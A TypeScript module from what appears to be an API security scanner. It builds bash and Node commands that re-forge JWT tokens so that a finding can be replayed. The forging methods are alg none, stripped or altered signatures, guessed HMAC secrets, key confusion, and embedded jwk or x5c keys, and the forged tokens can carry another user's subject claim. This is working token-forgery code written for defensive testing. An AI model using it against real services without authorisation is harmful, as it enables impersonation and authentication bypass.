// The forging step of a finding whose proof is a token the scan made from key 1's JWT (alg none, a
// stripped or kept signature, a guessed HMAC secret, key confusion, an embedded key or certificate, changed claims):
// a bash command that builds the same kind of token from the reader's own key 1 with a fresh `exp`,
// so the finding's curl command still works days after the scan, when the scan's token has expired.

import type { Exchange } from './http/exchange';
import type { Redactor } from './redact';
import { curlFor, shellQuote } from './evidence';

export type ForgeSigning =
  /** No signature at all (the segment after the last dot is empty). */
  | { kind: 'none' }
  /** Key 1's own signature, over what is now another header or payload. */
  | { kind: 'original' }
  /** Key 1's signature with its last four characters changed. */
  | { kind: 'altered' }
  /** A random signature (a token no server issued). */
  | { kind: 'random' }
  /** An HMAC with a secret the scan knows: a well-known one it guessed, the API's public key, an empty key, a key its kid SQL selects. */
  | { kind: 'hmac'; alg: string; secret: string }
  /** A fresh RSA key of the command's own whose public half rides in the header's `jwk`. */
  | { kind: 'embedded-jwk' }
  /** A fresh RSA key of the command's own, in a self-signed certificate that rides in the header's `x5c`. */
  | { kind: 'embedded-x5c' };

export interface ForgeRecipe {
  /** The forged token's header; null keeps key 1's header as it is. */
  header: Record<string, unknown> | null;
  /** Claims set over key 1's (another user's subject, a fresh jti). */
  claims: Record<string, unknown>;
  /**
   * `fresh`: `exp` an hour after the command runs (`iat` and `nbf`, where key 1 has them, at that
   * moment), so the token works whenever it is replayed; `past`: `exp` a day before it (the proof of
   * an expiry the API ignores).
   */
  expiry: 'fresh' | 'past';
  signing: ForgeSigning;
  /** Key 1's token as the scan sent it: only to name the variable that holds it, never shown. */
  from: string;
}

const HMAC_HASH: Record<string, string> = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' };

// One line of Node (every developer machine that runs this scanner's CLI has it): it reads key 1's
// token from T and the recipe from H, C, E, S, A, K (the HMAC secret as a JSON string, so a PEM
// key stays on one line), and prints the forged token. It holds no single
// quote, so it sits in one single-quoted shell word.
const FORGE_SCRIPT = [
  'const c=require("crypto"),e=process.env,b=(o)=>Buffer.from(JSON.stringify(o)).toString("base64url");',
  'const [h0,p0,s0]=e.T.replace(/^bearer\\s+/i,"").trim().split(".");',
  'const p=Object.assign(JSON.parse(Buffer.from(p0,"base64url").toString()),JSON.parse(e.C)),n=Math.floor(Date.now()/1000);',
  'if(e.E==="fresh"){if("exp"in p)p.exp=n+3600;if("iat"in p)p.iat=n;if("nbf"in p)p.nbf=n}',
  'if(e.E==="past"){p.exp=n-86400;if("iat"in p)p.iat=n-90000;if("nbf"in p)p.nbf=n-90000}',
  'const h=e.H?JSON.parse(e.H):null;let k;',
  'if(e.S==="embedded-jwk"){k=c.generateKeyPairSync("rsa",{modulusLength:2048});h.jwk={...k.publicKey.export({format:"jwk"}),kid:h.kid}}',
  // A self-signed certificate in DER, built by hand (Node reads certificates but does not make them):
  // version 3, serial 1, sha256WithRSAEncryption, CN=Portcullis replay key, valid a day either side.
  'if(e.S==="embedded-x5c"){k=c.generateKeyPairSync("rsa",{modulusLength:2048});',
  'const L=(x)=>x<128?[x]:x<256?[129,x]:[130,x>>8,x&255],T=(t,...q)=>{const x=Buffer.concat(q);return Buffer.concat([Buffer.from([t,...L(x.length)]),x])},X=(x)=>Buffer.from(x,"hex"),',
  'g=T(48,X("06092a864886f70d01010b0500")),m=T(48,T(49,T(48,X("0603550403"),T(12,Buffer.from("Portcullis replay key"))))),',
  'u=(d)=>T(23,Buffer.from(new Date(d).toISOString().replace(/[-:T]/g,"").slice(2,14)+"Z")),',
  'tb=T(48,T(160,X("020102")),T(2,X("01")),g,m,T(48,u(n*1000-864e5),u(n*1000+864e5)),m,k.publicKey.export({type:"spki",format:"der"}));',
  'h.x5c=[T(48,tb,g,T(3,X("00"),c.sign("sha256",tb,k.privateKey))).toString("base64")]}',
  'const i=(h?b(h):h0)+"."+b(p);',
  'const s={none:()=>"",original:()=>s0,altered:()=>s0.slice(0,-4)+[...s0.slice(-4)].map((x)=>x==="A"?"B":"A").join(""),',
  'random:()=>c.randomBytes(32).toString("base64url"),"embedded-jwk":()=>c.sign("sha256",Buffer.from(i),k.privateKey).toString("base64url"),',
  '"embedded-x5c":()=>c.sign("sha256",Buffer.from(i),k.privateKey).toString("base64url"),',
  'hmac:()=>c.createHmac(e.A,JSON.parse(e.K)).update(i).digest("base64url")}[e.S]();',
  'process.stdout.write(i+"."+s)',
].join('');

function signingText(s: ForgeSigning): string {
  switch (s.kind) {
    case 'none':
      return 'no signature';
    case 'original':
      return "key 1's own signature, kept";
    case 'altered':
      return "key 1's signature with its last four characters changed";
    case 'random':
      return 'a random signature';
    case 'hmac':
      return `${s.alg} with the secret given to the command (K)`;
    case 'embedded-jwk':
      return 'RS256 with a new RSA key whose public half is put in the header\'s "jwk"';
    case 'embedded-x5c':
      return 'RS256 with a new RSA key whose self-signed certificate is put in the header\'s "x5c"';
  }
}

/** The variable the reader keeps key 1's token in (the one the scan's other curl commands use). */
function keyVariable(recipe: ForgeRecipe, redactor: Redactor): string {
  const bare = recipe.from.replace(/^bearer\s+/i, '').trim();
  return redactor.secrets.find((s) => s.value === recipe.from || s.value === bare)?.envVar ?? 'PORTCULLIS_KEY_1';
}

function decoded(segment: string | undefined): string {
  try {
    return JSON.stringify(JSON.parse(Buffer.from(segment ?? '', 'base64url').toString('utf8')));
  } catch {
    return '(not JSON)';
  }
}

/** The evidence line with the header and claims of the token the scan forged and sent, in clear. */
export function forgedTokenNote(ex: Exchange): string[] {
  if (ex.request.auth.kind !== 'credential') return [];
  const [h, p] = ex.request.auth.value.replace(/^bearer\s+/i, '').trim().split('.');
  return [`Forged token sent: header ${decoded(h)}; claims ${decoded(p)}. The curl command's first lines build one like it from your key 1.`];
}

/** Comment lines that say what the forged token is, header and claims in clear. */
export function forgeNotes(recipe: ForgeRecipe): string[] {
  const changes = Object.keys(recipe.claims).length ? `, with ${JSON.stringify(recipe.claims)} set` : '';
  return [
    `Header: ${recipe.header ? JSON.stringify({ ...recipe.header, ...(recipe.signing.kind === 'embedded-jwk' ? { jwk: '(the new key)' } : {}), ...(recipe.signing.kind === 'embedded-x5c' ? { x5c: ['(the new certificate)'] } : {}) }) : "key 1's own"}.`,
    `Claims: key 1's${changes}; "exp" ${recipe.expiry === 'fresh' ? 'one hour after the command runs (so it works whenever you replay it)' : 'one day before the command runs'}.`,
    `Signature: ${signingText(recipe.signing)}.`,
  ];
}

/**
 * The finding's curl text: a comment naming the variable to set, the forging step (header and
 * claims in clear, then `TOKEN=$(...)`, a Node one-liner that builds the token from that variable's
 * claims), and the request with `$TOKEN` where the scan sent its forged token.
 */
export function forgedCurl(ex: Exchange, recipe: ForgeRecipe, redactor: Redactor): string | null {
  if (ex.request.auth.kind !== 'credential') return null;
  const forged = ex.request.auth.value.replace(/^bearer\s+/i, '').trim();
  const key = keyVariable(recipe, redactor);
  const env = [
    `T="$${key}"`,
    `H=${recipe.header ? shellQuote(JSON.stringify(recipe.header), redactor) : "''"}`,
    `C=${shellQuote(JSON.stringify(recipe.claims), redactor)}`,
    `E=${recipe.expiry}`,
    `S=${recipe.signing.kind}`,
    ...(recipe.signing.kind === 'hmac' ? [`A=${HMAC_HASH[recipe.signing.alg.toUpperCase()] ?? 'sha256'}`, `K=${shellQuote(JSON.stringify(recipe.signing.secret), redactor)}`] : []),
  ];
  const lines = [
    `# Set first: ${key}: key 1's token (any valid one, even an expired one: only its claims${recipe.signing.kind === 'original' || recipe.signing.kind === 'altered' ? ' and signature' : ''} are used).`,
    '# Forge the token (bash and Node):',
    ...forgeNotes(recipe).map((l) => `#   ${l}`),
    `TOKEN=$(${env.join(' ')} node -e '${FORGE_SCRIPT}')`,
    curlFor(ex, redactor, [{ value: forged, name: 'TOKEN' }]),
  ];
  const text = lines.join('\n');
  return redactor.leaks(text) ? redactor.redact(text) : text;
}
